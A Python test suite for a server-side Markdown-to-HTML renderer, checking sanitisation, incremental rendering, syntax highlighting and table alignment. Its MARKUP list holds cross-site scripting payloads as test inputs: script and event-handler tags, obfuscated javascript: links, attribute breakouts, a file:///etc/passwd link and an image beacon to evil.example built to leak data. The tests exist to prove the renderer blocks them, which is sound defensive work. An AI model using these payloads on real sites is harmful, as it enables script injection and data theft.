"""Markdown to HTML on the server."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from longctx.server.page.markdown import code_styles, render

BLOCKS = [
    "# A heading",
    "Some *words* and `code`,\nin two lines.",
    "- one\n- two\n\n  with a second paragraph\n- three",
    "1. first\n   ```\n   code\n   ```\n2. second",
    "```python\ndef f(x):\n\n    return x  # \u2028 is no end of a line\n```",
    "~~~\nnot closed",
    "| a | b |\n|---|--:|\n| 1 | 2 |",
    "> quoted\n> > twice",
    "Under\n===",
    "---",
    "    indented code",
    "[name]: https://example.org",
]
MARKUP = [
    "<script>window.ran = true</script>",
    '<img src="x" onerror="window.ran = true">',
    '<div style="position:fixed">over all of it</div>',
    "<svg/onload=alert(1)>",
    "<style>* {display: none}</style>",
    "<iframe src=//evil.example></iframe>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](&#x6A;avascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:x)",
    "[a](file:///etc/passwd)",
    "[a](/metrics)",
    "[a](//evil.example)",
    "<javascript:alert(1)>",
    "![a](https://evil.example/leak?q=secret)",
    "![a](javascript:alert(1))",
    '[a](https://example.org "\\" onclick=\\"alert(1)")',
    '```"><script>alert(1)</script>\ncode\n```',
    "```html\n<script>alert(1)</script>\n```",
    '```x" onclick="alert(1)\ncode\n```',
    "| <b>a</b> |\n|---|\n| <script>x</script> |",
    "`<script>`",
    "&lt;script&gt;",
    "a\0b<script>",
]
SAFE = re.compile(
    r"</?(?:blockquote|br|h[1-6]|hr|li|ol|p|pre|ul|a|code|em|s|span|strong|table|tbody|td|th|thead|tr)"
    r'(?: (?:class|title|start|target|rel)="[^"<>]*"| href="(?:https?|mailto):[^"<>]*")*>'
)


def whole(text: str) -> str:
    """All of it, rendered at once."""
    done = render(text)
    return done["settled"] + done["open"]


def written(text: str, cuts: list[int]) -> str:
    """The same, rendered as it grows, only what may still change anew."""
    settled, rest, before = "", "", 0
    ends = sorted({min(cut, len(text)) for cut in cuts} | {len(text)})
    done = render("")
    for end in ends:
        done = render(rest + text[before:end])
        settled, rest, before = settled + done["settled"], done["rest"], end
    return settled + done["open"]


@pytest.mark.parametrize("text", MARKUP)
def test_nothing_in_it_runs(text: str) -> None:
    """No tag and no attribute but those that a text may have; no address of this server."""
    html = whole(text)
    assert "<" not in SAFE.sub("", html), html
    assert not re.search(r'(?i)href="(?!https?:|mailto:)', html)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from([*MARKUP, *BLOCKS, "<", '"', "\n", "`", "]("]), max_size=8))
def test_nothing_runs_in_any_company(parts: list[str]) -> None:
    """What stands around it opens nothing."""
    assert "<" not in SAFE.sub("", whole("".join(parts)))


@settings(max_examples=300, deadline=None)
@given(st.data())
def test_as_it_is_written_it_comes_to_the_same(data: st.DataObject) -> None:
    """But for references, whose definition may stand at the end: that is rendered at the end."""
    some = st.lists(st.sampled_from(BLOCKS[:-1]), min_size=1, max_size=5)
    text = data.draw(st.sampled_from(["\n", "\n\n"])).join(data.draw(some))
    cuts = data.draw(st.lists(st.integers(0, len(text)), max_size=8))
    assert written(text, cuts) == whole(text)


def test_a_long_answer_is_not_rendered_anew() -> None:
    """What is left over is the last block, however much stands before it."""
    done = render("A paragraph.\n\n" * 1000 + "The *last* one\n")
    assert done["rest"] == "The *last* one\n"
    assert done["open"] == "<p>The <em>last</em> one</p>\n"
    assert done["settled"].count("<p>") == 1000


def test_code_is_highlighted() -> None:
    """By the language that is named; an unknown one stays as it is."""
    assert '<span class="k">def</span>' in whole("```python\ndef f(): pass\n```")
    assert whole("```nonesuch\n<b>\n```") == (
        '<pre><code class="language-nonesuch">&lt;b&gt;\n</code></pre>\n'
    )
    assert "pre code .k {" in code_styles()
    assert "prefers-color-scheme: dark" in code_styles()


def test_long_code_is_shown_plain() -> None:
    """Some lexers take the square of its length."""
    html = whole("```xml\n" + "<!--" * 20_000)
    assert html.count("&lt;!--") == 20_000
    assert "<span" not in html


def test_an_image_is_a_link() -> None:
    """The page asks no foreign host, so that no answer can tell one what was talked about."""
    html = whole("![a *plan*](https://example.org/a.png)")
    assert '<a href="https://example.org/a.png"' in html
    assert ">a plan</a>" in html


def test_a_column_is_aligned_by_a_class() -> None:
    """The page's policy takes no style in the text."""
    assert '<td class="right">1</td>' in whole("|a|\n|-:|\n|1|")
